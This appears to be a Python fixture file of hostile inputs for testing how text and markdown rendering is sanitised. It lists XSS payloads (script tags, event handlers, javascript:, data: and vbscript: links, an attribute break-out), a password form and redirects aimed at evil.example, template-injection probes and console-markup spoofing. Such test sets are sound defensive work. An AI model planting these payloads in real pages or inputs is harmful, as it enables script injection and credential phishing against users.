"""What others could write where only text is expected."""

MARKDOWN = {
    "script element": "<script>alert(1)</script>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "svg with handler": "<svg onload=alert(1)>",
    "frame": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "style element": "<style>body{display:none}</style>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example">',
    "javascript link": "[a](javascript:alert(1))",
    "javascript link in capitals and entities": "[a](JaVaScRiPt&colon;alert(1))",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript autolink": "<vbscript:msgbox(1)>",
    "attribute break-out in a title": '[a](https://x.example "\\" onmouseover=alert(1) x=\\"")',
    "html in a code fence's language": '```"><script>alert(1)</script>\ncode\n```',
}
TEXTS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "template": "{{ 7 * 7 }}{% raw %}",
    "console markup": "[bold red]APPROVED[/] [link=https://evil.example]x[/link]",
}
